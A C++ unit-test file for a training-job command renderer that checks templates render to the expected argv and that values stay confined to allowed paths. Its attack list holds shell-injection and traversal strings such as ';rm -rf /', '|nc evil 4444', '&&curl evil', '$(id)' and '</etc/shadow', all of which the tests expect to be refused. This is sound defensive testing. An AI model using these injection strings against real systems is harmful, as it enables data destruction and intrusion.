// Command rendering (workers/command_render.h): the templates labs write
// render to the argv they expect, and no value can escape its argument.
#include "workers/command_render.h"

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <limits>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "scheduler/spec/spec_parser.h"

namespace mixsweep::workers {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Pair;
using ::testing::StartsWith;

constexpr char kOutputDir[] = "/art/sweeps/7/jobs/42";
constexpr char kPretrainCheckpoint[] = "/art/sweeps/7/jobs/40/checkpoints/latest.ckpt";

JobValues Values() {
  return {.dataset = "file:///data/aloha-agilex/pick_dual_bottles/teleop",
          .dataset_hash = "sha256:9b2f0c7e5d41a8f3",
          .subset_manifest = "/art/sweeps/7/jobs/42/subset.json",
          .n_demos = 50,
          .steps = 13000,
          .seed = 1,
          .output_dir = kOutputDir,
          .gpu = "0",
          .job_id = 42,
          .run_id = 101,
          .sweep_id = 7,
          .code_version = "git:4f1c2e9",
          .policy = "diffusion_policy",
          .task = "pick_dual_bottles",
          .init_checkpoint = "",
          .resume_checkpoint = ""};
}

RenderOptions Roots() { return {.allowed_roots = {"file:///art"}}; }

absl::StatusOr<RenderedCommand> RenderArgs(std::vector<std::string> argv,
                                           const JobValues& values = Values(),
                                           const RenderOptions& options = Roots()) {
  return RenderCommand({.argv = std::move(argv), .shell = "", .env = {}, .checkpoint = ""},
                       values, options);
}

absl::StatusOr<RenderedCommand> RenderShell(std::string script,
                                            const JobValues& values = Values(),
                                            const RenderOptions& options = Roots()) {
  return RenderCommand({.argv = {}, .shell = std::move(script), .env = {}, .checkpoint = ""},
                       values, options);
}

// The one-argument render of `text` in argv mode, or the error message.
std::string RenderOne(const std::string& text, const JobValues& values = Values(),
                      const RenderOptions& options = Roots()) {
  absl::StatusOr<RenderedCommand> cmd = RenderArgs({"tool", text}, values, options);
  if (!cmd.ok()) return "error: " + std::string(cmd.status().message());
  return cmd->argv[1];
}

// Runs `script` with /bin/sh -c (as popen does) and returns its stdout.
std::string RunShell(const std::string& script) {
  FILE* pipe = popen(script.c_str(), "r");
  if (pipe == nullptr) return "popen failed";
  std::string out;
  char buffer[256];
  size_t n;
  while ((n = fread(buffer, 1, sizeof(buffer), pipe)) > 0) out.append(buffer, n);
  pclose(pipe);
  return out;
}

// --- the templates labs write --------------------------------------------------

const std::vector<std::string> kDiffusionPolicyFinetune = {
    "python", "train.py", "--config-name=train_diffusion_unet_real_image_workspace",
    "task.dataset_path={dataset}", "+task.dataset.episode_manifest={subset_manifest}",
    "training.max_train_steps={steps}", "+training.init_checkpoint={init_checkpoint}",
    "training.seed={seed}", "hydra.run.dir={output_dir}", "logging.name={job_id}"};

TEST(WorkerCommandRenderTest, DiffusionPolicyFinetuneRendersToItsArgv) {
  JobValues values = Values();
  values.steps = 3000;
  values.init_checkpoint = std::string("file://") + kPretrainCheckpoint;
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = kDiffusionPolicyFinetune,
       .shell = "",
       .env = {{"WANDB_MODE", "offline"}, {"HYDRA_FULL_ERROR", "1"}},
       .checkpoint = "{output_dir}/checkpoints/latest.ckpt"},
      values, Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_THAT(cmd->argv,
              ElementsAre("python", "train.py",
                          "--config-name=train_diffusion_unet_real_image_workspace",
                          "task.dataset_path=file:///data/aloha-agilex/pick_dual_bottles/teleop",
                          "+task.dataset.episode_manifest=/art/sweeps/7/jobs/42/subset.json",
                          "training.max_train_steps=3000",
                          "+training.init_checkpoint=file:///art/sweeps/7/jobs/40/checkpoints/"
                          "latest.ckpt",
                          "training.seed=1", "hydra.run.dir=/art/sweeps/7/jobs/42",
                          "logging.name=42"));
  EXPECT_THAT(cmd->env, ElementsAre(Pair("HYDRA_FULL_ERROR", "1"), Pair("WANDB_MODE", "offline")));
  EXPECT_EQ(cmd->checkpoint, "/art/sweeps/7/jobs/42/checkpoints/latest.ckpt");
  EXPECT_FALSE(cmd->shell);
}

// The shipped example, read by the real spec parser: what the scheduler
// accepts, the worker renders.
TEST(WorkerCommandRenderTest, TheExampleSpecsTemplatesRender) {
  const std::filesystem::path example = std::filesystem::path(__FILE__).parent_path() /
                                        "../../docs/examples/pick_dual_bottles.yaml";
  std::ifstream file(example);
  ASSERT_TRUE(file) << example;
  std::stringstream text;
  text << file.rdbuf();
  absl::StatusOr<spec::ParsedSpec> parsed = spec::ParseSweepSpec(text.str());
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  JobValues values = Values();
  values.init_checkpoint = kPretrainCheckpoint;
  for (const auto& stage : {"train", "pretrain", "finetune"}) {
    std::optional<spec::CommandTemplate> from_spec = parsed->spec.TemplateFor(stage, nullptr);
    ASSERT_TRUE(from_spec.has_value()) << stage;
    absl::StatusOr<RenderedCommand> cmd = RenderCommand({.argv = from_spec->argv,
                                                         .shell = from_spec->shell,
                                                         .env = from_spec->env,
                                                         .checkpoint = from_spec->checkpoint},
                                                        values, Roots());
    ASSERT_TRUE(cmd.ok()) << stage << ": " << cmd.status();
    EXPECT_THAT(cmd->argv, testing::Contains("training.max_train_steps=13000")) << stage;
    EXPECT_EQ(cmd->checkpoint, "/art/sweeps/7/jobs/42/checkpoints/latest.ckpt");
  }
}

TEST(WorkerCommandRenderTest, LerobotCommandRenders) {
  JobValues values = Values();
  values.dataset = "lerobot/aloha_sim_insertion_human";  // a Hugging Face repo id
  values.policy = "act";
  values.gpu = "2,3";
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = {"lerobot-train", "--dataset.repo_id={dataset}", "--policy.type={policy}",
                "--output_dir={output_dir}", "--steps={steps}", "--seed={seed}",
                "--job_name=mixsweep-{sweep_id}-{job_id}"},
       .shell = "",
       .env = {{"CUDA_VISIBLE_DEVICES", "{gpu}"}},
       .checkpoint = "{output_dir}/checkpoints/last/pretrained_model"},
      values, Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_THAT(cmd->argv,
              ElementsAre("lerobot-train", "--dataset.repo_id=lerobot/aloha_sim_insertion_human",
                          "--policy.type=act", "--output_dir=/art/sweeps/7/jobs/42",
                          "--steps=13000", "--seed=1", "--job_name=mixsweep-7-42"));
  EXPECT_THAT(cmd->env, ElementsAre(Pair("CUDA_VISIBLE_DEVICES", "2,3")));
  EXPECT_EQ(cmd->checkpoint, "/art/sweeps/7/jobs/42/checkpoints/last/pretrained_model");
}

TEST(WorkerCommandRenderTest, OpenpiCommandRenders) {
  JobValues values = Values();
  values.policy = "pi0_aloha_sim";  // an openpi config name
  values.resume_checkpoint = "/art/sweeps/7/jobs/42/checkpoints/2000";
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = {"uv", "run", "scripts/train.py", "{policy}", "--exp-name=job-{job_id}",
                "--overwrite", "--num-train-steps={steps}", "--seed={seed}",
                "--checkpoint-base-dir={output_dir}", "--resume-from={resume_checkpoint}"},
       .shell = "",
       .env = {{"XLA_PYTHON_CLIENT_MEM_FRACTION", "0.9"}, {"CUDA_VISIBLE_DEVICES", "{gpu}"}},
       .checkpoint = ""},
      values, Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_THAT(cmd->argv,
              ElementsAre("uv", "run", "scripts/train.py", "pi0_aloha_sim", "--exp-name=job-42",
                          "--overwrite", "--num-train-steps=13000", "--seed=1",
                          "--checkpoint-base-dir=/art/sweeps/7/jobs/42",
                          "--resume-from=/art/sweeps/7/jobs/42/checkpoints/2000"));
  EXPECT_THAT(cmd->env, ElementsAre(Pair("CUDA_VISIBLE_DEVICES", "0"),
                                    Pair("XLA_PYTHON_CLIENT_MEM_FRACTION", "0.9")));
  EXPECT_EQ(cmd->checkpoint, kOutputDir);  // no checkpoint template: {output_dir}
}

TEST(WorkerCommandRenderTest, RendersEveryPlaceholder) {
  JobValues values = Values();
  values.init_checkpoint = kPretrainCheckpoint;
  values.resume_checkpoint = "/art/r";
  values.seed = std::numeric_limits<int64_t>::max();
  EXPECT_EQ(RenderOne("{dataset}|{dataset_hash}|{subset_manifest}|{n_demos}|{steps}", values),
            "file:///data/aloha-agilex/pick_dual_bottles/teleop|sha256:9b2f0c7e5d41a8f3|"
            "/art/sweeps/7/jobs/42/subset.json|50|13000");
  EXPECT_EQ(RenderOne("{seed} {output_dir} {gpu} {job_id} {run_id} {sweep_id}", values),
            "9223372036854775807 /art/sweeps/7/jobs/42 0 42 101 7");
  EXPECT_EQ(RenderOne("{code_version} {policy} {task} {init_checkpoint} {resume_checkpoint}",
                      values),
            "git:4f1c2e9 diffusion_policy pick_dual_bottles "
            "/art/sweeps/7/jobs/40/checkpoints/latest.ckpt /art/r");
}

TEST(WorkerCommandRenderTest, DoubledBracesAreLiteral) {
  EXPECT_EQ(RenderOne("{{steps}}={steps}"), "{steps}=13000");
  EXPECT_EQ(RenderOne("a}}b{{c"), "a}b{c");
  EXPECT_EQ(RenderOne("{{{steps}}}"), "{13000}");
}

// --- template errors -------------------------------------------------------

TEST(WorkerCommandRenderTest, RefusesUnknownMalformedAndUnbalancedPlaceholders) {
  EXPECT_THAT(RenderOne("--x={dataset_path}"),
              StartsWith("error: argv[1]: unknown placeholder {dataset_path} (known: {dataset}"));
  EXPECT_THAT(RenderOne("{Steps}"), HasSubstr("argv[1]: malformed placeholder {Steps}"));
  EXPECT_THAT(RenderOne("{}"), HasSubstr("malformed placeholder {}"));
  EXPECT_THAT(RenderOne("{n demos}"), HasSubstr("malformed placeholder"));
  EXPECT_THAT(RenderOne("${HOME}"), HasSubstr("malformed placeholder {HOME}"));
  EXPECT_THAT(RenderOne("{steps"), HasSubstr("unbalanced '{' at character 1"));
  EXPECT_THAT(RenderOne("a}b"), HasSubstr("unbalanced '}' at character 2"));
  EXPECT_THAT(RenderOne("{steps}}"), HasSubstr("unbalanced '}'"));
  EXPECT_THAT(RenderOne(std::string("a\0b", 3)), HasSubstr("argv[1]: contains a NUL byte"));
}

TEST(WorkerCommandRenderTest, ErrorsNameWhereInTheTemplate) {
  auto message = [](const CommandTemplate& command) {
    absl::StatusOr<RenderedCommand> cmd = RenderCommand(command, Values(), Roots());
    EXPECT_EQ(cmd.status().code(), absl::StatusCode::kInvalidArgument);
    return std::string(cmd.status().message());
  };
  EXPECT_THAT(message({.argv = {"t"}, .shell = "", .env = {{"X", "{nope}"}}, .checkpoint = ""}),
              StartsWith("env.X: unknown placeholder {nope}"));
  EXPECT_THAT(message({.argv = {"t"}, .shell = "", .env = {}, .checkpoint = "{out}/c"}),
              StartsWith("checkpoint: unknown placeholder {out}"));
  EXPECT_THAT(message({.argv = {}, .shell = "run {nope}", .env = {}, .checkpoint = ""}),
              StartsWith("shell: unknown placeholder {nope}"));
  EXPECT_THAT(message({.argv = {"t"}, .shell = "", .env = {{"A-B", "1"}}, .checkpoint = ""}),
              StartsWith("env.A-B: is not a valid environment variable name"));
  EXPECT_THAT(message({.argv = {"t"}, .shell = "", .env = {{"", "1"}}, .checkpoint = ""}),
              HasSubstr("is not a valid environment variable name"));
  EXPECT_THAT(message({.argv = {"t"}, .shell = "s", .env = {}, .checkpoint = ""}),
              HasSubstr("exactly one of argv"));
  EXPECT_THAT(message({.argv = {}, .shell = "", .env = {}, .checkpoint = ""}),
              HasSubstr("exactly one of argv"));
  EXPECT_THAT(message({.argv = {"{resume_checkpoint}", "x"}, .shell = "", .env = {},
                       .checkpoint = ""}),
              StartsWith("argv[0]: the program is empty"));
}

// --- values ------------------------------------------------------------------

TEST(WorkerCommandRenderTest, EmptyCheckpointsAndRequiredValues) {
  // A finetune whose pretrain's checkpoint is unknown must not start from scratch.
  EXPECT_EQ(RenderOne("--init={init_checkpoint}"),
            "error: {init_checkpoint} is empty: the pretrain's checkpoint is unknown");
  // An evaluate job whose checkpoint is unknown must not evaluate nothing.
  EXPECT_EQ(RenderOne("--ckpt={checkpoint}"),
            "error: {checkpoint} is empty: the checkpoint to evaluate is unknown");
  // A resume checkpoint is optional: no preempted attempt, nothing to resume.
  EXPECT_EQ(RenderOne("--resume={resume_checkpoint}"), "--resume=");
  JobValues values = Values();
  values.dataset = "";
  EXPECT_EQ(RenderOne("{dataset}", values), "error: {dataset} is empty");
  values = Values();
  values.output_dir = "";
  EXPECT_EQ(RenderOne("{output_dir}", values), "error: {output_dir} is empty");
  // Identifiers may be unset (a dataset without a content hash, a CPU job).
  values = Values();
  values.dataset_hash = "";
  values.gpu = "";
  EXPECT_EQ(RenderOne("[{dataset_hash}][{gpu}]", values), "[][]");
}

TEST(WorkerCommandRenderTest, OnlyUsedValuesAreChecked) {
  JobValues values = Values();
  values.policy = "x; rm -rf /";
  values.output_dir = "/elsewhere";  // the default checkpoint still uses it
  EXPECT_THAT(RenderOne("{steps}", values), HasSubstr("{output_dir}: /elsewhere is not under"));
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = {"t", "{steps}"}, .shell = "", .env = {}, .checkpoint = "/art/c"}, values,
      Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_THAT(cmd->argv, ElementsAre("t", "13000"));
}

TEST(WorkerCommandRenderTest, AcceptsOrdinaryValues) {
  struct Case {
    std::string placeholder;
    std::string value;
  };
  const std::vector<Case> cases = {
      {"dataset", "s3://lab-bucket/robotwin2/pick_dual_bottles/sim"},
      {"dataset", "hf://lerobot/aloha_sim_insertion_human@v2.1"},
      {"dataset", "/data/My%20Drive/demos~1/a+b=c,d"},
      {"dataset", "gs://bucket/a..b/c."},  // ".." inside a name is not a segment
      {"dataset_hash", "sha256:9b2f0c7e5d41a8f3c6e2b7d9a0f1e4c3"},
      {"code_version", "git:4f1c2e9"},
      {"code_version", "v1.2.3+local"},
      {"code_version", "user@host:repo/branch=main"},
      {"policy", "pi0_fast"},
      {"task", "Pick-Dual.Bottles"},
      {"gpu", "0"},
      {"gpu", "2,3"},
      {"gpu", "10,11,12,13"},
      {"output_dir", "/art/sweeps/7/jobs/42/x..y"},
      {"output_dir", "file:///art/sweeps/7"},
  };
  for (const Case& c : cases) {
    JobValues values = Values();
    if (c.placeholder == "dataset") values.dataset = c.value;
    if (c.placeholder == "dataset_hash") values.dataset_hash = c.value;
    if (c.placeholder == "code_version") values.code_version = c.value;
    if (c.placeholder == "policy") values.policy = c.value;
    if (c.placeholder == "task") values.task = c.value;
    if (c.placeholder == "gpu") values.gpu = c.value;
    if (c.placeholder == "output_dir") values.output_dir = c.value;
    EXPECT_EQ(RenderOne("{" + c.placeholder + "}", values), c.value) << c.placeholder;
  }
}

// Every string placeholder, with a valid value for it that an attack is
// appended to.
struct StringPlaceholder {
  std::string name;
  std::string valid;
  std::string JobValues::*field;
};

const std::vector<StringPlaceholder>& StringPlaceholders() {
  static const auto* const kAll = new std::vector<StringPlaceholder>{
      {"dataset", "file:///data/pdb", &JobValues::dataset},
      {"dataset_hash", "sha256:9b2f", &JobValues::dataset_hash},
      {"subset_manifest", "/art/j/subset.json", &JobValues::subset_manifest},
      {"output_dir", "/art/j", &JobValues::output_dir},
      {"gpu", "0", &JobValues::gpu},
      {"code_version", "git:4f1c2e9", &JobValues::code_version},
      {"policy", "diffusion_policy", &JobValues::policy},
      {"task", "pick_dual_bottles", &JobValues::task},
      {"init_checkpoint", "/art/p/latest.ckpt", &JobValues::init_checkpoint},
      {"resume_checkpoint", "/art/j/step-2000.ckpt", &JobValues::resume_checkpoint},
      {"checkpoint", "/art/p/checkpoints/2000.ckpt", &JobValues::checkpoint},
  };
  return *kAll;
}

// Ways out of an argument, as written and URL-encoded once, twice, thrice.
const std::vector<std::string>& Attacks() {
  static const auto* const kAll = new std::vector<std::string>{
      ";rm -rf /", "|nc evil 4444", "&&curl evil", "&", "$(id)", "${HOME}", "`id`",
      ">/etc/passwd", "</etc/shadow", "\nrm -rf /", "\r", "\t", std::string("\0", 1),
      "\x1b[2J", "\x7f", "/../../etc/passwd", "/..", "\\..\\..\\x", "/%2e%2e/etc",
      "/%2E%2e/etc", "/.%2e/etc", "/%252e%252e/etc", "/%25252e%25252e/etc", "%3bid", "%3Bid",
      "%253bid", "%0aid", "%0did", "%00", "%09", "%60id%60", "%2560id", "%24%28id%29",
      "%2524%2528id%2529", "%24%7bHOME%7d", "%7cnc", "%26", "%3e/x", "%3c/x", "%5c..%5cx",
      "%2f..%2fx", "'", "'\\''", "\"", " --flag", "\\", "*", "?", "!", "#", "(x)", "[x]",
      "é"};
  return *kAll;
}

TEST(WorkerCommandRenderTest, EveryAttackOnEveryStringPlaceholderIsRefused) {
  int checked = 0;
  for (const StringPlaceholder& placeholder : StringPlaceholders()) {
    for (const std::string& attack : Attacks()) {
      JobValues values = Values();
      values.*placeholder.field = placeholder.valid + attack;
      const std::string use = "{" + placeholder.name + "}";
      for (bool shell : {false, true}) {
        absl::StatusOr<RenderedCommand> cmd =
            shell ? RenderShell("tool --x=" + use, values) : RenderArgs({"tool", "--x=" + use}, values);
        ASSERT_FALSE(cmd.ok()) << use << " with " << absl::CHexEscape(attack)
                               << (shell ? " (shell)" : "") << " rendered "
                               << absl::CHexEscape(cmd->argv.back());
        EXPECT_EQ(cmd.status().code(), absl::StatusCode::kInvalidArgument);
        EXPECT_THAT(std::string(cmd.status().message()), StartsWith(use + ": value"))
            << absl::CHexEscape(attack);
        ++checked;
      }
    }
  }
  EXPECT_EQ(checked, 2 * StringPlaceholders().size() * Attacks().size());
}

TEST(WorkerCommandRenderTest, RefusalsSayWhy) {
  auto with_dataset = [](const std::string& dataset) {
    JobValues values = Values();
    values.dataset = dataset;
    return RenderOne("{dataset}", values);
  };
  EXPECT_EQ(with_dataset("/data;reboot"),
            "error: {dataset}: value contains ';' which could escape its argument");
  EXPECT_EQ(with_dataset("/data$(id)"),
            "error: {dataset}: value contains '$(' which could escape its argument");
  EXPECT_EQ(with_dataset("/data\nx"),
            "error: {dataset}: value contains a control character (\\x0a) which could escape "
            "its argument");
  EXPECT_EQ(with_dataset("/data%3breboot"),
            "error: {dataset}: value, once URL-decoded, contains ';' which could escape its "
            "argument");
  EXPECT_EQ(with_dataset("/data/%252e%252e/x"),
            "error: {dataset}: value, URL-decoded 2 times, contains a '..' path segment");
  EXPECT_EQ(with_dataset("/data/../x"), "error: {dataset}: value contains a '..' path segment");
  EXPECT_EQ(with_dataset("/my data"),
            "error: {dataset}: value contains a space which is not allowed here (letters, "
            "digits and ._~:/@+=,%-)");
  EXPECT_EQ(with_dataset("--config=evil.yaml"),
            "error: {dataset}: value starts with '-' and could be read as an option");
  EXPECT_EQ(with_dataset(std::string(kMaxValueBytes + 1, 'a')),
            "error: {dataset}: value is longer than 4096 bytes");
  JobValues values = Values();
  values.policy = "act,pi0";
  EXPECT_THAT(RenderOne("{policy}", values),
              HasSubstr("{policy}: value contains ',' which is not allowed here (letters, "
                        "digits and ._:+@=/-)"));
  values.policy = "it's";
  EXPECT_THAT(RenderOne("{policy}", values), HasSubstr("contains a quote (')"));
}

TEST(WorkerCommandRenderTest, GpuIsDigitsAndCommas) {
  for (const char* gpu : {"a", "0,", ",0", "0,,1", "0 1", "GPU-4ff0", "0:1", "1.5"}) {
    JobValues values = Values();
    values.gpu = gpu;
    EXPECT_THAT(RenderOne("{gpu}", values), StartsWith("error: {gpu}: value")) << gpu;
  }
}

// --- path confinement ------------------------------------------------------

struct ConfinementCase {
  std::vector<std::string> roots;
  std::string path;
  bool allowed;
};

TEST(WorkerCommandRenderTest, ConfinesPathsToTheAllowedRoots) {
  const std::vector<ConfinementCase> cases = {
      {{"/art"}, "/art/x", true},
      {{"/art"}, "/art", true},
      {{"/art"}, "/art/", true},
      {{"/art"}, "file:///art/x", true},
      {{"/art/"}, "/art/x", true},
      {{"file:///art/"}, "/art/x", true},
      {{"/art"}, "/artifacts2/x", false},
      {{"/art"}, "/ar", false},
      {{"/art"}, "art/x", false},
      {{"/art"}, "/other/art/x", false},
      {{"/art"}, "file:///artifacts2", false},
      {{"/art"}, "file://localhost/art/x", false},
      {{"/art"}, "s3://art/x", false},
      {{"/art"}, "/art/../etc", false},
      {{"/art/../etc"}, "/etc/x", false},
      {{"s3://bucket/prefix"}, "s3://bucket/prefix/sweeps/7", true},
      {{"s3://bucket/prefix/"}, "s3://bucket/prefix/sweeps/7", true},
      {{"s3://bucket/prefix"}, "s3://bucket/prefix2/x", false},
      {{"s3://bucket/prefix"}, "s3://bucket/pre", false},
      {{"s3://bucket/prefix"}, "/bucket/prefix/x", false},
      {{"s3://bucket/prefix"}, "gs://bucket/prefix/x", false},
      {{"/"}, "/anything/at/all", true},
      {{"/"}, "s3://bucket/x", false},
      {{""}, "/x", false},  // an unset root admits nothing
      {{"/art", "s3://b/p"}, "s3://b/p/x", true},
      {{"/art", "s3://b/p"}, "/art/x", true},
      {{"/art", "s3://b/p"}, "/tmp/x", false},
      {{}, "/anywhere", true},  // no roots: no confinement
      {{}, "relative/dir", true},
      {{}, "/a/../b", false},  // never '..', roots or not
  };
  for (const char* name :
       {"output_dir", "subset_manifest", "init_checkpoint", "resume_checkpoint", "checkpoint"}) {
    for (const ConfinementCase& c : cases) {
      JobValues values = Values();
      values.*(std::string(name) == "output_dir"        ? &JobValues::output_dir
               : std::string(name) == "subset_manifest" ? &JobValues::subset_manifest
               : std::string(name) == "init_checkpoint" ? &JobValues::init_checkpoint
               : std::string(name) == "checkpoint"      ? &JobValues::checkpoint
                                                        : &JobValues::resume_checkpoint) = c.path;
      const RenderOptions options{.allowed_roots = c.roots};
      // The checkpoint is given, so that only `name` is checked.
      absl::StatusOr<RenderedCommand> cmd = RenderCommand(
          {.argv = {"t", std::string("{") + name + "}"}, .shell = "", .env = {}, .checkpoint = "c"},
          values, options);
      EXPECT_EQ(cmd.ok(), c.allowed) << name << " = " << c.path << " under "
                                     << testing::PrintToString(c.roots) << ": " << cmd.status();
      if (!c.allowed) {
        EXPECT_THAT(std::string(cmd.status().message()), StartsWith(std::string("{") + name + "}"));
      } else if (cmd.ok()) {
        EXPECT_EQ(cmd->argv[1], c.path);
      }
    }
  }
}

// --- shell mode ----------------------------------------------------------------

TEST(WorkerCommandRenderTest, ShellModeQuotesEveryValue) {
  JobValues values = Values();
  values.init_checkpoint = kPretrainCheckpoint;
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = {},
       .shell = "cd {output_dir} && python train.py data={dataset} steps={steps} "
                "init='{init_checkpoint}' 2>&1 | tee ${{HOME}}/log",
       .env = {{"RUN", "{job_id}-{policy}"}},
       .checkpoint = "{output_dir}/last.ckpt"},
      values, Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_TRUE(cmd->shell);
  EXPECT_THAT(cmd->argv,
              ElementsAre("/bin/sh", "-c",
                          "cd '/art/sweeps/7/jobs/42' && python train.py "
                          "data='file:///data/aloha-agilex/pick_dual_bottles/teleop' "
                          "steps='13000' init=''/art/sweeps/7/jobs/40/checkpoints/latest.ckpt'' "
                          "2>&1 | tee ${HOME}/log"));
  // Env values and the checkpoint never pass through a shell: not quoted.
  EXPECT_THAT(cmd->env, ElementsAre(Pair("RUN", "42-diffusion_policy")));
  EXPECT_EQ(cmd->checkpoint, "/art/sweeps/7/jobs/42/last.ckpt");
  EXPECT_EQ(RenderShell("echo [{resume_checkpoint}]")->argv[2], "echo ['']");
}

TEST(WorkerCommandRenderTest, ShellModeRoundTripsEveryAllowedCharacter) {
  JobValues values = Values();
  values.dataset = "s3://b/x~y/a+b=c,d@e:f%20g.h-i_j";
  values.output_dir = "/art/a~b/c=d,e+f@g:h%41";
  values.code_version = "git:v1.2+x=y@z/w-q_r";
  absl::StatusOr<RenderedCommand> cmd =
      RenderShell("printf '%s\\n' {dataset} {output_dir} x{code_version}y", values);
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_EQ(RunShell(cmd->argv[2]), values.dataset + "\n" + values.output_dir + "\nx" +
                                        values.code_version + "y\n");
}

TEST(WorkerCommandRenderTest, ShellQuoteSurvivesHostileText) {
  EXPECT_EQ(ShellQuote(""), "''");
  EXPECT_EQ(ShellQuote("it's"), "'it'\\''s'");
  for (const std::string& text :
       {std::string("it's"), std::string("'"), std::string("''"), std::string("a b  c"),
        std::string("$(touch /tmp/mixsweep-pwned)"), std::string("`id`"), std::string("x;y|z&"),
        std::string("\"q\" \\ \\\\"), std::string("new\nline"), std::string("*?[a]"),
        std::string("~ $HOME ${HOME} !!"), std::string("'; echo pwned; '"), std::string()}) {
    EXPECT_EQ(RunShell("printf '%s' " + ShellQuote(text)), text) << absl::CHexEscape(text);
  }
}

}  // namespace
}  // namespace mixsweep::workers

namespace mixsweep::workers {
namespace {

// --- seed 001: evaluate jobs and intermediate checkpoints --------------------

TEST(WorkerCommandRenderTest, EvaluatePlaceholdersRender) {
  JobValues values = Values();
  values.checkpoint = "/art/sweeps/7/jobs/40/checkpoints/2000.ckpt";
  values.n_episodes = 50;
  values.seed = 100000;
  absl::StatusOr<RenderedCommand> cmd = RenderCommand(
      {.argv = {"lerobot-eval", "--policy.path={checkpoint}", "--eval.n_episodes={n_episodes}",
                "--seed={seed}", "--output_dir={output_dir}"},
       .shell = "", .env = {}, .checkpoint = ""},
      values, Roots());
  ASSERT_TRUE(cmd.ok()) << cmd.status();
  EXPECT_THAT(cmd->argv, ElementsAre("lerobot-eval",
                                     "--policy.path=/art/sweeps/7/jobs/40/checkpoints/2000.ckpt",
                                     "--eval.n_episodes=50", "--seed=100000",
                                     "--output_dir=/art/sweeps/7/jobs/42"));
  // The evaluated checkpoint is read from the artifact root only.
  values.checkpoint = "/etc/shadow";
  cmd = RenderCommand({.argv = {"eval", "{checkpoint}"}, .shell = "", .env = {}, .checkpoint = ""},
                      values, Roots());
  ASSERT_FALSE(cmd.ok());
  EXPECT_THAT(std::string(cmd.status().message()),
              StartsWith("{checkpoint}: /etc/shadow is not under an allowed root"));
}

TEST(WorkerCommandRenderTest, RenderLocationRendersStepCheckpointsAndResultFiles) {
  JobValues values = Values();
  values.step = 2000;
  absl::StatusOr<std::string> path = RenderLocation("{output_dir}/checkpoints/{step}.ckpt",
                                                    "checkpoint_at_step", values, Roots());
  ASSERT_TRUE(path.ok()) << path.status();
  EXPECT_EQ(*path, "/art/sweeps/7/jobs/42/checkpoints/2000.ckpt");
  EXPECT_EQ(*RenderLocation("{output_dir}/eval_info.json", "result_file", values, Roots()),
            "/art/sweeps/7/jobs/42/eval_info.json");
  // Literal braces, and nothing quoted: the path never passes through a shell.
  EXPECT_EQ(*RenderLocation("{output_dir}/{{x}}", "result_file", values, Roots()),
            "/art/sweeps/7/jobs/42/{x}");
  // The same checks as a command, named by where the template was.
  EXPECT_THAT(std::string(RenderLocation("{output_dir}/{bogus}", "result_file", values, Roots())
                              .status()
                              .message()),
              StartsWith("result_file: unknown placeholder {bogus}"));
  values.step = -1;
  EXPECT_THAT(std::string(RenderLocation("{output_dir}/{step}", "checkpoint_at_step", values,
                                         Roots())
                              .status()
                              .message()),
              HasSubstr("{step}: value -1 is negative"));
  EXPECT_THAT(
      std::string(RenderLocation("", "result_file", values, Roots()).status().message()),
      StartsWith("result_file: the template is empty"));
}

}  // namespace
}  // namespace mixsweep::workers
